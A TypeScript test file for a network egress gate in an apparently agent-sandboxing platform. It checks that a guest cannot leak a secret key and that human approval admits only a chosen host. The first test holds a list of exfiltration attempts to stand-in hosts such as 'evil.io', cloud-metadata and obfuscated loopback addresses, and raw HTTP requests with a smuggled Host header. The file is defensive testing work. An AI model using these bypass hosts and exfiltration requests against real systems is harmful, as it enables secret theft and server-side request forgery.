import { openSqlite } from "@smooth/platform/node/sqlite";
import { countingIds, memoryLog } from "@smooth/platform/testing";
import { systemClock } from "@smooth/platform/node/system";
import type { RunId } from "@smooth/protocol/ids";
import { expect, test } from "vitest";
import { openAccess, type Access } from "./access/access.ts";
import { sqlAskStore } from "./access/ask-store.ts";
import { gateFor, type Gate } from "./access/gate.ts";
import { guestOf, httpOrigin } from "./goalie/testing/loopback.ts";
import { createRedactor } from "./narc/redact.ts";
import { defaultPolicy } from "./wonk/default-policy.ts";

/** The whole cast at one door, with real sockets: what matters is what arrives. */

const KEY = "sk-real-provider-key-0123456789";

function cast(mode: "ask" | "headless"): { access: Access; gate: Gate } {
  const access = openAccess({
    store: sqlAskStore(openSqlite(":memory:")),
    clock: systemClock,
    ids: countingIds(),
    log: memoryLog(),
    allowFileOf: () => null,
    onChange: () => undefined,
  });
  const redactor = createRedactor([KEY]);
  const policy = defaultPolicy({ repoRoot: "/workspace" });
  return {
    access,
    gate: gateFor({
      access,
      policy: () => policy,
      run: { runId: "run-aaaaaa" as RunId, pearlId: null },
      redact: (text) => redactor.redact(text).text,
      mode,
      askTtlMs: null,
    }),
  };
}

test("a fully gullible operator, a hundred tries: nothing arrives anywhere", async () => {
  await using attacker = await httpOrigin((_incoming, response) => void response.end("thanks"));
  const { gate } = cast("headless");
  await using guest = await guestOf({ judge: gate.judge, secrets: () => [KEY] });
  const hosts = [
    "evil.io",
    "127.0.0.1",
    "localhost",
    "169.254.169.254",
    "metadata.google.internal",
    "0x7f.1",
    "2130706433",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "evil.io.",
    "EVIL.io",
    "api.github.com.evil.io",
    "internal.corp",
  ];
  const ways = hosts.flatMap((host) => [
    () => guest.fetch(`http://${host}:${attacker.port}/?k=${KEY}`).then(({ status }) => status),
    () => guest.fetch(`http://${host}/`, { method: "POST", body: KEY }).then(({ status }) => status),
    () => guest.connect(`${host}:${attacker.port}`).then(({ status }) => status),
    () => guest.connect(`${host}:443`).then(({ status }) => status),
    () =>
      guest
        .raw(
          `GET http://${host}:${attacker.port}/ HTTP/1.1\r\nHost: ${host}:${attacker.port}\r\nConnection: close\r\n\r\n`,
        )
        .then((text) => Number(text.slice(9, 12))),
    () =>
      guest
        .raw(`GET http://api.github.com/ HTTP/1.1\r\nHost: ${host}:${attacker.port}\r\nConnection: close\r\n\r\n`)
        .then((text) => Number(text.slice(9, 12))),
    () =>
      guest
        .raw(`GET http://u@${host}:${attacker.port}/ HTTP/1.1\r\nHost: ${host}:${attacker.port}\r\n\r\n`)
        .then((text) => Number(text.slice(9, 12))),
    () =>
      guest.raw(`GET / HTTP/1.1\r\nHost: ${host}:${attacker.port}\r\n\r\n`).then((text) => Number(text.slice(9, 12))),
  ]);

  const statuses = await Promise.all(ways.map((way) => way()));

  expect(ways.length).toBeGreaterThanOrEqual(100);
  expect(statuses.filter((status) => status !== 400 && status !== 403)).toEqual([]);
  expect(attacker.connections()).toBe(0);
  expect(guest.audit).toHaveLength(ways.length);
});

test("a person lets one host in for the run: the held request goes through, its neighbours do not", async () => {
  await using origin = await httpOrigin((_incoming, response) => void response.end("ok"));
  const { access, gate } = cast("ask");
  // The default policy asks for 80 and 443 only; the test's origin listens elsewhere, so the port is mapped here.
  await using guest = await guestOf({ judge: (request) => gate.judge({ ...request, port: 80 }), secrets: () => [KEY] });

  const reply = guest.fetch(`http://registry.example.com:${origin.port}/left-pad`);
  await expect.poll(() => access.pending().length).toBe(1);
  expect(origin.connections()).toBe(0);
  await access.decide(access.pending()[0]?.id ?? "", {
    version: 1,
    decision: { verdict: "approve", grant: "run" },
    by: { kind: "human", name: "ada" },
  });

  expect(await reply).toMatchObject({ status: 200, text: "ok" });
  expect((await guest.fetch(`http://registry.example.com:${origin.port}/other`)).status).toBe(200);
  expect((await guest.fetch(`http://registry.example.com:${origin.port}/?k=${KEY}`)).status).toBe(403);
  expect(origin.seen()).not.toContain(KEY);
  expect(access.pending()).toEqual([]);
});
